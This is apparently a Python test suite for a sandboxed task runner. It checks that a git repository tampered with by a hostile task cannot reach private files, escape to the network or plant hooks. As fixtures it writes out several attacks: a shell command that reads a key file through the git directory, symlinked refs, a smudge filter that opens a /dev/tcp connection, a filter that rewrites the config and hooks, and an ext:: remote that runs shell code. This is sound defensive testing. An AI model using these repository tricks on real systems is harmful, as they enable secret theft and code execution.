"""A repository in which a hostile task has worked before: what it planted there opens nothing to the next, nor gets it past its wall."""
import os
import shutil
import socket
import unittest

from test_walls import WHY_NOT, needs
from test_worktrees import TreeCase


class Planted(TreeCase):
    def private(self):
        """Beneath a root, and granted to nobody."""
        os.mkdir(self.path("private"))
        with open(self.path("private/key"), "w") as file:
            file.write("mine")
        return self.path("private")

    def refused(self, words, **more):
        task = self.run_in_tree("cat $(git rev-parse --git-common-dir)/*/*/key; cat %s; true" % self.path("private/key"), state="blocked", **more)
        self.assertEqual(task["error"]["code"], "BAD_WORKDIR")
        self.assertIn(words, task["error"]["message"])
        self.assertEqual(self.trees(), [])

    def test_a_link_among_its_refs_opens_nothing(self):
        private = self.private()
        for place in ("refs/remotes", "logs/refs/remotes"):
            with self.subTest(place):
                at = os.path.join(self.repo, ".git", place)
                os.makedirs(os.path.dirname(at), exist_ok=True)
                os.symlink(private, at)
                self.refused("%s in its repository is a symbolic link" % place, name="t-" + place.replace("/", "-"))
                os.remove(at)
        self.assertEqual(os.listdir(private), ["key"], "nor was anything made there")

    def test_a_tree_that_says_it_is_another_repositorys_is_not(self):
        other = self.path("other")
        self.git("init", "-q", "-b", "main", other, cwd=self.folder)
        self.git("commit", "-q", "--allow-empty", "-m", "secret", cwd=other)
        shutil.move(os.path.join(self.repo, ".git"), self.path("was"))
        self.write(".git", "gitdir: %s/.git\n" % other)
        task = self.run_in_tree("git log", state="blocked")
        self.assertEqual(task["error"]["code"], "BAD_WORKDIR")
        self.assertIn("does not say that this is a tree of it", task["error"]["message"])

    def test_a_tree_of_a_tree_and_a_submodule_have_trees(self):
        self.git("worktree", "add", "-q", self.path("second"))
        self.git("init", "-q", "-b", "main", self.path("lib"), cwd=self.folder)
        self.git("commit", "-q", "--allow-empty", "-m", "lib", cwd=self.path("lib"))
        self.git("-c", "protocol.file.allow=always", "submodule", "add", "-q", self.path("lib"), "lib")
        self.git("init", "-q", "-b", "main", "--separate-git-dir", self.path("apart.git"), self.path("apart"), cwd=self.folder)
        self.git("commit", "-q", "--allow-empty", "-m", "apart", cwd=self.path("apart"))
        self.git("config", "core.worktree", self.path("apart"), cwd=self.path("apart"))
        worker = self.worker({"x": self.executor("git rev-parse --abbrev-ref HEAD")}, roots=[self.folder])
        for name in ("second", "repo/lib", "apart"):
            self.create(id=name.replace("/", "-"), workingDir=self.path(name))
            task = self.is_in(name.replace("/", "-"), "done", "blocked")
            self.assertEqual(task["state"], "done", task["error"])
        worker.stop()
        self.assertEqual(self.trees(), [])

    @needs("sandbox")
    @unittest.skipUnless(shutil.which("bash"), "there is no bash, which can connect by itself")
    def test_what_its_configuration_runs_when_files_are_checked_out_is_run_in_a_sandbox(self):
        with socket.create_server(("127.0.0.1", 0)) as listener:
            listener.setblocking(False)
            self.git("config", "filter.out.smudge", "bash -c 'echo out > /dev/tcp/127.0.0.1/%d; cat'" % listener.getsockname()[1])
            with open(os.path.join(self.repo, ".git/info/attributes"), "w") as file:
                file.write("* filter=out\n")
            self.assertIn("one", self.run_in_tree("cat file", isolation="sandbox")["result"])
            with self.assertRaises(BlockingIOError, msg="somebody got out"):
                listener.accept()

    def test_what_its_configuration_runs_when_files_are_checked_out_cannot_change_configuration_or_hooks(self):
        for level in ("process",) + (("sandbox",) if not WHY_NOT["sandbox"] else ()):
            git = os.path.join(self.repo, ".git")
            self.git("config", "filter.out.smudge",
                     f"sh -c 'echo planted >> {git}/config; echo planted > {git}/hooks/post-commit; echo planted > {git}/refs/heads/x; cat'")
            with open(os.path.join(git, "info/attributes"), "w") as file:
                file.write("* filter=out\n")
            with open(os.path.join(git, "config")) as file:
                before = file.read()
            self.assertIn("one", self.run_in_tree("cat file", isolation=level, name="t-" + level)["result"])
            with open(os.path.join(git, "config")) as file:
                self.assertEqual(file.read(), before)
            self.assertFalse(os.path.exists(os.path.join(git, "hooks/post-commit")))
            self.assertFalse(os.path.exists(os.path.join(git, "refs/heads/x")))

    def test_an_object_that_is_not_there_is_fetched_from_nobody(self):
        """A part of a repository may be elsewhere, and where that is can be a program."""
        blob = self.git("rev-parse", "HEAD:file").strip()
        for key, value in (("extensions.partialClone", "evil"), ("remote.evil.promisor", "true"), ("protocol.ext.allow", "always"),
                           ("remote.evil.url", "ext::sh -c touch% " + os.path.join(self.repo, ".git/planted"))):
            self.git("config", key, value)
        self.git("config", "core.repositoryFormatVersion", "1")
        os.remove(os.path.join(self.repo, ".git/objects", blob[:2], blob[2:]))
        self.run_in_tree("true", state="blocked")
        self.assertFalse(os.path.exists(os.path.join(self.repo, ".git/planted")))


class Hidden(TreeCase):
    """Work that git does not see, because it is in another repository or was never written down."""

    def test_a_repository_in_place_of_its_own_stays(self):
        self.kept("""rm .git; git init -q -b main; git add -A; git commit -q -m all
            echo two > file; git stash -q; cat file""", "a repository of its own in place of its .git")

    def test_a_repository_in_a_directory_that_git_knows_stays(self):
        self.kept("cd sub; git init -q -b main; git add inner; git commit -q -m all; echo two > inner; git stash -q",
                  "1 uncommitted file")

    def test_a_commit_without_a_branch_stays_though_the_repository_keeps_no_logs(self):
        self.git("config", "core.logAllRefUpdates", "false")
        self.kept("at=$(git rev-parse --abbrev-ref HEAD); git checkout -q --detach; git commit -q --allow-empty -m lost; git checkout -q $at",
                  "1 commit made without a branch")


if __name__ == "__main__":
    unittest.main()
